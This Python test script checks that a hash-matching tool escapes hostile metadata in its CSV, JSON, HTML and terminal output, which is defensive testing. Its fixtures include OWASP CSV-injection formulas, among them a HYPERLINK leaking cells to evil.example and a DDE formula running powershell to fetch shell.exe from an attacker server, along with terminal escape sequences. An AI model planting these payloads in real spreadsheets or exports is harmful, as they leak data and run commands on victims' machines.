#!/usr/bin/python3
"""Hostile metadata against what investigators open (issue 13, items 10-14).

Shards carry metadata crafted to attack the outputs: OWASP's CSV-injection
payloads (spreadsheet formulas), fields with the delimiter, quotes and line
ends, every control character, terminal escape sequences; once through
`ingest` of a table and once written by h5py (/meta strings and the `source`
attribute). ingest, join, cluster, report, export (csv, jsonl, icse), sweep,
nightly and info then run over them, and the outputs are read back with
Python's csv and json modules (the oracles):
  - every CSV parses to the header's number of columns and the expected
    number of rows; a text cell that a spreadsheet would run as a formula is
    prefixed with ' (OWASP), numbers the tool writes (-1, distances) are not
  - every metadata value reads back exactly (after the ' prefix)
  - every JSON / JSONL file is UTF-8 and every line parses, values exact
  - info, error messages and notices carry no raw control bytes
  - text that is not UTF-8 is an error naming FILE:LINE and the field, or is
    converted by --encoding cp1252|latin1 (Python's codecs as the oracle);
    not-UTF-8 /meta strings and `source` attributes are refused
  - a leading UTF-8 byte order mark is skipped

usage: test_injection.py SIMJOIN
"""
import csv
import glob
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile

import h5py
import numpy as np

SIMJOIN = os.path.abspath(sys.argv[1])
SEED = int(os.environ.get("SEED", np.random.SeedSequence().entropy % 2**32))
rng = np.random.default_rng(SEED)
failures = []
T = 31


def check(cond, what):
    if not cond:
        failures.append(what)
        print(f"FAIL: {what} (seed {SEED})", file=sys.stderr)
    return cond


def run(*args):
    """simjoin with bytes or str arguments; output kept as bytes."""
    return subprocess.run([SIMJOIN, *args], capture_output=True)


def need(p, what):
    if not check(p.returncode == 0, f"{what}: exit {p.returncode}: {p.stderr[-400:]!r}"):
        finish()


def finish():
    if failures:
        print(f"test_injection: {len(failures)} failure(s) (seed {SEED})", file=sys.stderr)
        sys.exit(1)
    print("test_injection: all checks passed")
    sys.exit(0)


def rand_hash():
    while True:
        h = rng.integers(0, 256, 32, dtype=np.uint8)
        if 64 <= np.unpackbits(h).sum() <= 192:
            return h


def near(h, k):
    bits = np.unpackbits(h)
    bits[rng.choice(256, k, replace=False)] ^= 1
    return np.packbits(bits)


# OWASP's CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection)
# and the characters its rule names: = + - @ tab CR.
OWASP = [
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "-1",
    "\uff1dSUM(1,2)",  # full-width =
]
# Only h5py can store these (ingest trims blanks around a field).
RAW_ONLY = ["\t=1+2", "\r=1+2", "\n=1+2", "  =2+5", "two\nlines,\"and\";quotes\r\nhere"]
CONTROLS = "".join(chr(c) for c in range(1, 32)) + "\x7f" + '"\\' + "\u2028\u0085\u009b" + "\x1b]0;pwned\x07\x1b[2J"
# A source that forges rows in an unquoted CSV and rings the terminal.
EVIL_SOURCE = '=HYPERLINK("x"&A1),\n"f",1\x1b[2J'
CORPUS_SOURCE = OWASP[1]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_formula(s):
    return s.lstrip(" ").startswith(FORMULA)


def in_csv(s):
    """What a text value must read back as from a CSV cell (the OWASP rule)."""
    return "'" + s if is_formula(s) else s


def is_number(s):
    try:
        float(s)
        return True
    except ValueError:
        return False


def read_utf8(path):
    """A file's text; a failure (and the text with U+FFFD) if it is not UTF-8."""
    with open(path, "rb") as f:
        data = f.read()
    try:
        return data.decode("utf-8")
    except UnicodeDecodeError as e:
        check(False, f"{os.path.basename(path)} is not UTF-8: {e}")
        return data.decode("utf-8", "replace")


def read_csv(path, delim=","):
    """Header and rows of a CSV; the file must decode as UTF-8 and every row
    must have the header's number of fields."""
    text = read_utf8(path)
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delim))
    if not check(len(rows) >= 1, f"{path}: no header"):
        return [], []
    head, body = rows[0], rows[1:]
    for k, r in enumerate(body):
        check(len(r) == len(head), f"{os.path.basename(path)} row {k + 1}: {len(r)} fields, "
              f"header {len(head)}: {r!r}")
    # no cell a spreadsheet would run, unless a number the tool wrote
    for k, r in enumerate(body):
        for j, cell in enumerate(r):
            if is_formula(cell):
                check(is_number(cell), f"{os.path.basename(path)} row {k + 1} column "
                      f"{head[j] if j < len(head) else j}: formula cell {cell!r}")
    return head, body


def read_jsonl(path):
    text = read_utf8(path)
    out = []
    for k, line in enumerate(text.split("\n")[:-1] if text.endswith("\n") else text.split("\n")):
        try:
            out.append(json.loads(line))
        except ValueError as e:
            check(False, f"{os.path.basename(path)} line {k + 1} is not JSON: {e}: {line[:200]!r}")
    return out


def read_json(path):
    try:
        return json.loads(read_utf8(path))
    except ValueError as e:
        check(False, f"{os.path.basename(path)} is not JSON: {e}")
        return None


def no_controls(data, what):
    """No raw C0 (but newline), DEL or C1 control in terminal output (bytes)."""
    bad = [b for b in data if (b < 0x20 and b != 0x0A) or b == 0x7F]
    text = data.decode("utf-8", "replace")
    bad += [c for c in text if 0x80 <= ord(c) <= 0x9F]
    check(not bad, f"{what}: raw control characters {bad[:8]!r} in {data[:300]!r}")


tmp = tempfile.mkdtemp(prefix="simjoin-inject-")
os.chmod(tmp, 0o700)


def path(name):
    return os.path.join(tmp, name)


try:
    # ---- the hostile case -----------------------------------------------
    # Corpus (from a table via ingest): one row per OWASP payload, payloads in
    # every text column, quality left empty on odd rows (-1 in the shard).
    # Uploads (h5py): one near each corpus hash, with the raw-only payloads,
    # every control character, and an empty /meta/source on even rows (the
    # hostile `source` attribute applies there).
    N = len(OWASP)
    base = [rand_hash() for _ in range(N)]
    corpus_rows = []
    for i, p in enumerate(OWASP):
        corpus_rows.append(dict(id=1000 + i, hash=bytes(base[i]).hex(),
                                quality="" if i % 2 else "90", series=p,
                                case_id=OWASP[(i + 1) % N], category=OWASP[(i + 2) % N],
                                source=OWASP[(i + 3) % N]))
    # a degenerate (all zero) hash: excluded, cluster -1 in the export
    corpus_rows.append(dict(id=1999, hash="00" * 32, quality="", series="zero", case_id="",
                            category="", source=""))
    table = path("corpus.csv")
    with open(table, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\r\n")
        w.writerow(["id", "hash", "quality", "Series name", "Case ID", "Category", "Source"])
        for r in corpus_rows:
            w.writerow([r["id"], r["hash"], r["quality"], r["series"], r["case_id"], r["category"],
                        r["source"]])
    corpus = path("corpus.h5")
    p = run("ingest", "--kind", "pdq", "--in", table, "--out", corpus, "--source", CORPUS_SOURCE)
    need(p, "ingest of the hostile table")
    with h5py.File(corpus, "r") as f:
        got = [s.decode() for s in f["meta/series"][:]]
    check(got == [r["series"] for r in corpus_rows], f"table round trip: {got!r}")

    up_ids = np.arange(2000, 2000 + N, dtype=np.int64)
    up_meta = {
        "series": [RAW_ONLY[i % len(RAW_ONLY)] for i in range(N)],
        "case_id": [CONTROLS if i % 3 == 0 else OWASP[i] for i in range(N)],
        "category": [CONTROLS[i:] + "\u00e9" for i in range(N)],
        "source": ["" if i % 2 == 0 else OWASP[(i + 5) % N] for i in range(N)],
    }
    uploads = path("uploads.h5")
    with h5py.File(uploads, "w") as f:
        f["hashes"] = np.stack([near(base[i], 4) for i in range(N)])
        f["ids"] = up_ids
        f.attrs["kind"] = "pdq"
        f.attrs["source"] = EVIL_SOURCE
        f.attrs["note\x1b[31m"] = "attribute name with an escape"
        for k, v in up_meta.items():
            f[f"meta/{k}"] = np.array([s.encode() for s in v], dtype="S256")
        f["meta/victim_identified"] = np.full(N, -1, dtype=np.int8)
        f["meta/offender_identified"] = np.full(N, -1, dtype=np.int8)
    raw_of = {r["id"]: dict(r) for r in corpus_rows}  # as the shards hold them
    for i in range(N):
        raw_of[2000 + i] = {k: up_meta[k][i] for k in up_meta}
    meta_of = {r["id"]: r for r in corpus_rows}  # with each shard's source filled in
    for i in range(N):
        meta_of[2000 + i] = {k: up_meta[k][i] for k in up_meta}
        meta_of[2000 + i]["source"] = up_meta["source"][i] or EVIL_SOURCE
    meta_of[1999]["source"] = meta_of[1999]["source"] or CORPUS_SOURCE
    for i in range(N):
        meta_of[1000 + i]["source"] = meta_of[1000 + i]["source"] or CORPUS_SOURCE

    # ---- join, cluster, report -------------------------------------------
    pairs, clusters, rep = path("pairs.h5"), path("clusters.h5"), path("report")
    need(run("join", "--quiet", "--corpus", corpus, "--queries", uploads, "--threshold", str(T),
             "--out", pairs, "--stats-json", path("join.json")), "join")
    need(run("cluster", "--quiet", "--pairs", pairs, "--out", clusters, "--stats-json",
             path("cluster.json")), "cluster")
    need(run("report", "--quiet", "--clusters", clusters, "--pairs", pairs, "--out", rep,
             "--stats-json", path("report.json")), "report")
    for s in ("join.json", "cluster.json", "report.json"):
        check(isinstance(read_json(path(s)), dict), f"{s} is a JSON object")

    text_cols = {"series", "case_id", "category", "source", "Series name", "Case ID", "Category",
                 "Source"}

    def check_members(head, body, what, id_col, meta_of=meta_of):
        """Each text cell equals in_csv() of the value the input holds."""
        seen = set()
        for r in body:
            rid = int(r[head.index(id_col)])
            seen.add(rid)
            for j, name in enumerate(head):
                if name in text_cols:
                    key = {"Series name": "series", "Case ID": "case_id", "Category": "category",
                           "Source": "source"}.get(name, name)
                    check(r[j] == in_csv(meta_of[rid][key]),
                          f"{what}: id {rid} {name}: {r[j]!r} != {in_csv(meta_of[rid][key])!r}")
        return seen

    all_ids = set(meta_of) - {1999}
    head, body = read_csv(os.path.join(rep, "members.csv"))
    members_jl = read_jsonl(os.path.join(rep, "members.jsonl"))
    check(len(body) == len(members_jl) and len(body) > 0,
          f"members.csv has {len(body)} rows, members.jsonl {len(members_jl)}")
    check(check_members(head, body, "members.csv", "id") == {m["id"] for m in members_jl},
          "members.csv and members.jsonl list the same ids")
    for m in members_jl:
        for k in ("series", "case_id", "category", "source"):
            check(m.get(k) == meta_of[m["id"]][k],
                  f"members.jsonl id {m['id']} {k}: {m.get(k)!r} != {meta_of[m['id']][k]!r}")
    for k in ("nearest_distance", "nearest_known_distance"):
        if k in head:
            for r in body:
                cell = r[head.index(k)]
                check(cell == "" or (is_number(cell) and not cell.startswith("'")),
                      f"members.csv {k} is a number: {cell!r}")

    head, body = read_csv(os.path.join(rep, "triage.csv"))
    triage_jl = read_jsonl(os.path.join(rep, "triage.jsonl"))
    check(len(body) == len(triage_jl) and len(body) > 0,
          f"triage.csv has {len(body)} rows, triage.jsonl {len(triage_jl)}")
    for r, t in zip(body, triage_jl):
        for k in ("series", "cases", "sources"):
            if k in head and k in t:
                joined = "|".join(t[k])
                check(r[head.index(k)] == in_csv(joined),
                      f"triage.csv {k}: {r[head.index(k)]!r} != {in_csv(joined)!r}")

    head, body = read_csv(os.path.join(rep, "icse.csv"), ";")
    check_members(head, body, "icse.csv", "Image ID")
    check(len(body) == len(members_jl), f"icse.csv has {len(body)} rows, members {len(members_jl)}")

    # the page: the title and every value escaped (no raw < from metadata)
    with open(os.path.join(rep, "report.html"), "rb") as f:
        page = f.read().decode("utf-8")
    check("<script>\n" in page and page.count("<script") == 1, "report.html: one script, ours")
    check("\x1b" not in page and "\x07" not in page, "report.html: no raw escape characters")

    # ---- export -------------------------------------------------------------
    ex = path("icse-all.csv")
    need(run("export", clusters, "--format", "icse", "--out", ex), "export icse")
    head, body = read_csv(ex, ";")
    ids = check_members(head, body, "export icse", "Image ID")
    check(ids == all_ids, f"export icse rows: {sorted(ids)} (every hash in a cluster)")

    for shard, n_rows in ((corpus, N + 1), (uploads, N)):
        name = os.path.basename(shard)
        ex = path(name + ".csv")
        need(run("export", shard, "--format", "csv", "--out", ex), f"export csv {name}")
        head, body = read_csv(ex)
        check(len(body) == n_rows, f"export csv {name}: {len(body)} rows, expected {n_rows}")
        check_members(head, body, f"export csv {name}", "id", raw_of)
        if "quality" in head:  # -1 (unknown) stays a number
            q = [r[head.index("quality")] for r in body]
            check(set(q) == {"90", "-1"}, f"export csv {name} quality: {sorted(set(q))}")
        ex = path(name + ".jsonl")
        need(run("export", shard, "--format", "jsonl", "--out", ex), f"export jsonl {name}")
        rows = read_jsonl(ex)
        check(len(rows) == n_rows, f"export jsonl {name}: {len(rows)} rows")
        for r in rows:
            for k in ("series", "case_id", "category"):
                check(r.get(k) == meta_of[r["id"]][k], f"export jsonl {name} id {r['id']} {k}")

    ex = path("clusters.csv")
    need(run("export", clusters, "--format", "csv", "--out", ex), "export csv clusters")
    head, body = read_csv(ex)
    cl = {int(r[0]): r[1] for r in body}
    check(cl.get(1999) == "-1", f"the excluded hash has cluster -1 (a number): {cl.get(1999)!r}")
    ex = path("summary.csv")
    need(run("export", clusters, "--format", "csv", "--summary", "--out", ex), "export summary")
    read_csv(ex)
    need(run("sweep", "--quiet", "--pairs", pairs, "--thresholds", "10:30:10", "--out",
             path("sweep.csv")), "sweep csv")
    read_csv(path("sweep.csv"))
    need(run("sweep", "--quiet", "--pairs", pairs, "--thresholds", "10:30:10", "--out",
             path("sweep.json")), "sweep json")
    read_json(path("sweep.json"))

    # ---- nightly ----------------------------------------------------------
    state = path("state")
    need(run("state", "init", state, "--kind", "pdq", "--threshold", str(T)), "state init")
    need(run("nightly", "--quiet", "--state", state, "--new", corpus), "nightly corpus")
    need(run("nightly", "--quiet", "--state", state, "--new", uploads), "nightly uploads")
    # the oracle: pairs of the second night (an upload and anything) at distance <= T
    allh = {r["id"]: np.frombuffer(bytes.fromhex(r["hash"]), np.uint8) for r in corpus_rows}
    with h5py.File(uploads, "r") as f:
        for i, h in zip(f["ids"][:], f["hashes"][:]):
            allh[int(i)] = h
    zero = {1999}
    want = 0
    keys = sorted(allh)
    for x in range(len(keys)):
        for y in range(x + 1, len(keys)):
            a, b = keys[x], keys[y]
            if (a >= 2000 or b >= 2000) and a not in zero and b not in zero and \
                    np.unpackbits(allh[a] ^ allh[b]).sum() <= T:
                want += 1
    src = {k: (EVIL_SOURCE if k >= 2000 else CORPUS_SOURCE) for k in keys}
    reps = sorted(glob.glob(os.path.join(state, "reports", "g*.csv")))
    check(len(reps) == 2, f"nightly wrote {len(reps)} CSV reports")
    head, body = read_csv(reps[-1])
    matches = [r for r in body if r and r[0] == "match"]
    check(len(matches) == want, f"nightly CSV: {len(matches)} match rows, oracle {want}")
    check(all(r[0] in ("match", "merge", "excluded") for r in body),
          f"nightly CSV: forged record kinds {sorted({r[0] for r in body})}")
    for r in matches:
        a, b = int(r[head.index("a")]), int(r[head.index("b")])
        check(r[head.index("source_a")] == in_csv(src[a]) and r[head.index("source_b")] == in_csv(src[b]),
              f"nightly CSV sources of {a},{b}: {r[4:6]!r}")
    js = read_json(reps[-1][:-4] + ".json")
    if js is not None:
        check(len(js["matches"]) == want, f"nightly JSON: {len(js['matches'])} matches, oracle {want}")
        for m in js["matches"]:
            check(m["source_a"] == src[m["a"]] and m["source_b"] == src[m["b"]],
                  f"nightly JSON sources of {m['a']},{m['b']}: {m['source_a']!r} {m['source_b']!r}")
    read_json(reps[0][:-4] + ".json")
    need(run("report", "--quiet", "--state", state, "--out", path("report-state")), "report --state")
    read_csv(os.path.join(path("report-state"), "triage.csv"))
    read_csv(os.path.join(path("report-state"), "members.csv"))
    read_jsonl(os.path.join(path("report-state"), "members.jsonl"))

    # ---- the terminal -----------------------------------------------------
    p = run("info", uploads, clusters)
    need(p, "info")
    no_controls(p.stdout, "info stdout")
    no_controls(p.stderr, "info stderr")
    check(b"\\x1b" in p.stdout, "info shows the escape as \\x1b")
    check(b"note\\x1b[31m" in p.stdout and b"attribute name with an escape" in p.stdout,
          "info shows an attribute whose name holds an escape")
    esc_path = path("no\x1b]0;pwned\x07such.csv")
    p = run("ingest", "--kind", "pdq", "--in", esc_path, "--out", path("x.h5"))
    check(p.returncode == 1, f"ingest of a missing file: exit {p.returncode}")
    no_controls(p.stderr, "error message quoting a path")
    p = run("\x1b[2Jbogus")
    no_controls(p.stderr, "unknown command message")
    p = run("join", "--corpus", corpus, "--threshold", "\x1b[2J", "--out", path("x.h5"))
    no_controls(p.stderr, "usage message")
    esc_state = path("st\x1b[2J")
    p = run("state", "init", esc_state, "--kind", "pdq")
    no_controls(p.stdout + p.stderr, "state init")
    p = run("state", "info", esc_state)
    no_controls(p.stdout + p.stderr, "state info")
    p = run("nightly", "--state", esc_state, "--new", corpus)
    no_controls(p.stdout + p.stderr, "nightly notice")

    # ---- text that is not UTF-8 --------------------------------------------
    hx = bytes(rand_hash()).hex()

    def ingest_bytes(name, data, *opts):
        src_path, out = path(name), path(name + ".h5")
        with open(src_path, "wb") as f:
            f.write(data)
        return src_path, out, run("ingest", "--kind", "pdq", "--in", src_path, "--out", out, *opts)

    cp = b"id,hash,series,case id\n1,%s,Caf\xe9 \x93Noir\x94,C-1\n" % hx.encode()
    src_path, out, p = ingest_bytes("cp1252.csv", cp)
    err = p.stderr.decode("utf-8", "replace")
    check(p.returncode == 1 and f"{src_path}:2:" in err and "field 3 (series)" in err
          and "--encoding" in err, f"cp1252 text without --encoding: exit {p.returncode}: {err!r}")
    check(not os.path.exists(out), "nothing written for text that is not UTF-8")
    if os.path.exists(out):  # accepted after all: what it writes must still be JSON
        run("export", out, "--format", "jsonl", "--out", path("cp1252.jsonl"))
        read_jsonl(path("cp1252.jsonl"))
    for enc in ("cp1252", "latin1"):
        src_path, out, p = ingest_bytes(f"{enc}.csv", cp, "--encoding", enc)
        if not check(p.returncode == 0, f"ingest --encoding {enc}: {p.stderr!r}"):
            continue
        with h5py.File(out, "r") as f:
            got = f["meta/series"][0].decode("utf-8")
        check(got == "Caf\xe9 \x93Noir\x94".encode("latin1").decode(enc),
              f"--encoding {enc}: {got!r}")
    # every byte 0x80..0xFF, against Python's codecs (cp1252's five holes aside)
    holes = {0x81, 0x8D, 0x8F, 0x90, 0x9D}
    for enc in ("cp1252", "latin1"):
        chunks = [bytes(b for b in range(lo, lo + 32) if not (enc == "cp1252" and b in holes))
                  for lo in range(0x80, 0x100, 32)]
        data = b"id,hash,series\n" + b"".join(
            b"%d,%s,x%sx\n" % (k, bytes(rand_hash()).hex().encode(), c) for k, c in enumerate(chunks))
        src_path, out, p = ingest_bytes(f"all-{enc}.csv", data, "--encoding", enc)
        if not check(p.returncode == 0, f"ingest of every high byte, --encoding {enc}: {p.stderr!r}"):
            continue
        with h5py.File(out, "r") as f:
            got = [s.decode("utf-8") for s in f["meta/series"][:]]
        want_s = ["x" + c.decode(enc) + "x" for c in chunks]
        check(got == want_s, f"--encoding {enc}: every byte: {got!r} != {want_s!r}")
    src_path, out, p = ingest_bytes("hole.csv", b"id,hash,series\n1,%s,a\x81b\n" % hx.encode(),
                                    "--encoding", "cp1252")
    err = p.stderr.decode("utf-8", "replace")
    check(p.returncode == 1 and f"{src_path}:2:" in err and "field 3" in err and "0x81" in err,
          f"cp1252 byte 0x81: exit {p.returncode}: {err!r}")
    src_path, out, p = ingest_bytes("te.csv", b"%s,100,photo\xe9.jpg\n" % hx.encode())
    err = p.stderr.decode("utf-8", "replace")
    check(p.returncode == 1 and f"{src_path}:1:" in err and "field 3" in err,
          f"ThreatExchange file name not UTF-8: exit {p.returncode}: {err!r}")
    check(not os.path.exists(out), "nothing written for a ThreatExchange name not UTF-8")
    src_path, out, p = ingest_bytes("icse-bad.csv", b"Image ID;PDQ;Series name\n7;%s;S\xe9rie\n" % hx.encode())
    err = p.stderr.decode("utf-8", "replace")
    check(p.returncode == 1 and f"{src_path}:2:" in err and "field 3 (Series name)" in err,
          f"semicolon table not UTF-8: {err!r}")
    p = run("ingest", "--kind", "pdq", "--in", path("cp1252.csv"), "--out", path("y.h5"),
            "--encoding", "ebcdic")
    check(p.returncode == 2, f"--encoding ebcdic is a usage error: {p.returncode}")
    p = run("ingest", "--kind", "pdq", "--in", path("latin1.csv"), "--out", path("y.h5"),
            "--source", b"\xe9cole")
    check(p.returncode == 2 and not os.path.exists(path("y.h5")), f"--source not UTF-8: {p.returncode}")

    def bad_shard(name, meta=None, source=None):
        sp = path(name)
        with h5py.File(sp, "w") as f:
            f["hashes"] = np.stack([rand_hash(), rand_hash()])
            f["ids"] = np.array([1, 2], dtype=np.int64)
            f.attrs["kind"] = "pdq"
            if source is not None:
                f.attrs["source"] = np.bytes_(source)
            if meta is not None:
                f["meta/series"] = np.array(meta, dtype="S16")
        return sp

    sp = bad_shard("badmeta.h5", meta=[b"ok", b"bad\xff\xfe"])
    for cmd in (["join", "--corpus", sp, "--out", path("z.h5")], ["export", sp, "--format", "jsonl"]):
        p = run(*cmd)
        err = p.stderr.decode("utf-8", "replace")
        check(p.returncode == 1 and "/meta/series row 1" in err and "UTF-8" in err,
              f"{cmd[0]} of /meta not UTF-8: exit {p.returncode}: {err!r}")
    check(not os.path.exists(path("z.h5")), "nothing written for /meta not UTF-8")
    sp = bad_shard("badsource.h5", source=b"\xe9cole\x80")
    for cmd in (["join", "--corpus", sp, "--out", path("z.h5")],
                ["nightly", "--quiet", "--state", state, "--new", sp]):
        p = run(*cmd)
        err = p.stderr.decode("utf-8", "replace")
        check(p.returncode == 1 and "source" in err and "UTF-8" in err,
              f"{cmd[0]} of a source attribute not UTF-8: exit {p.returncode}: {err!r}")

    # ---- a byte order mark --------------------------------------------------
    bom = b"\xef\xbb\xbf"
    for name, data, n in (
            ("bom-table.csv", bom + b"id,hash\r\n5,%s\r\n" % hx.encode(), 1),
            ("bom-bare.txt", bom + b"%s\n%s\n" % (hx.encode(), bytes(rand_hash()).hex().encode()), 2),
            ("bom-icse.csv", bom + b"Image ID;PDQ;Series name\r\n9;%s;S\r\n" % hx.encode(), 1),
            ("bom-te.csv", bom + b"%s,100,a.jpg\n" % hx.encode(), 1)):
        src_path, out, p = ingest_bytes(name, data)
        if check(p.returncode == 0, f"{name}: a leading BOM: {p.stderr!r}"):
            with h5py.File(out, "r") as f:
                check(len(f["ids"]) == n, f"{name}: {len(f['ids'])} rows, expected {n}")
    src_path, out, p = ingest_bytes("bom-cp1252.csv", bom + b"id,hash,series\n3,%s,\xe9\n" % hx.encode(),
                                    "--encoding", "cp1252")
    check(p.returncode == 0, f"BOM with --encoding cp1252: {p.stderr!r}")
finally:
    if failures and os.environ.get("KEEP"):
        print(f"kept {tmp}", file=sys.stderr)
    else:
        shutil.rmtree(tmp, ignore_errors=True)
finish()
